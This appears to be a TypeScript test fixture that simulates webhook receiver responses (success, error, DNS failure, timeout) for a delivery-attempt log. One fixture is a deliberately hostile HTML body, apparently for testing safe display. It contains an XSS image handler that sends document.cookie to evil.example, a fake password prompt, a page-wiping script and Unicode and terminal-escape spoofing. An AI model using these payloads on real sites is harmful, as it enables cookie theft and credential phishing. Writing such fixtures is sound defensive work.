/** What one attempt came to, as lib/deliveries/save-attempts.ts stores it. */
export interface Outcome {
  statusCode: number | null;
  errorCode: string | null;
  errorMessage: string | null;
  durationMs: number;
  responseHeaders: [name: string, value: string][] | null;
  responseBody: string | null;
}

const response = (statusCode: number, durationMs: number, contentType: string, body: string): Outcome => {
  const ok = statusCode >= 200 && statusCode < 300;
  return {
    statusCode,
    errorCode: ok ? null : "http_status",
    errorMessage: ok ? null : `The receiver responded with status ${statusCode} instead of 2xx.`,
    durationMs,
    responseHeaders: [
      ["Server", "nginx"],
      ["Date", "Tue, 24 Nov 2026 09:14:07 GMT"],
      ["Content-Type", contentType],
      ["Content-Length", String(body.length)],
    ],
    responseBody: body,
  };
};

const noResponse = (errorCode: string, errorMessage: string, durationMs: number): Outcome => ({
  statusCode: null,
  errorCode,
  errorMessage,
  durationMs,
  responseHeaders: null,
  responseBody: null,
});

/** Tries to be markup, to reverse the text, to hide and to be endless. */
const HOSTILE = `<!doctype html><html><head><title>500</title></head>
<body onload="alert('owned')"><img src=x onerror="fetch('https://evil.example/'+document.cookie)">
<h1 style="position:fixed;inset:0;background:red">Session expired, enter your password</h1>
<script>document.body.innerHTML = ''</script>
\u202Egnp.eciovni\u202C \u200B\u200Bzero\u200Bwidth \u0007bell \u001B[31mred
${"A".repeat(600)}</body></html>`;

export const outcomes = {
  accepted: (ms: number) => response(200, ms, "application/json; charset=utf-8", '{"received":true}'),
  noContent: (ms: number) => response(204, ms, "text/plain", ""),
  unavailable: (ms: number) =>
    response(503, ms, "application/json", '{"error":"upstream_unavailable","retry":true}'),
  unauthorized: (ms: number) =>
    response(
      401,
      ms,
      "application/json",
      '{"error":{"code":"invalid_signature","message":"Signature mismatch"}}',
    ),
  hostile: (ms: number) => response(500, ms, "text/html; charset=utf-8", HOSTILE),
  unknownHost: (ms: number) =>
    noResponse(
      "dns_error",
      "The host name has no address in DNS. Check its spelling and its DNS records.",
      ms,
    ),
  timeout: () => noResponse("timeout", "Stopped after 10 s: no connection could be made.", 10_003),
};
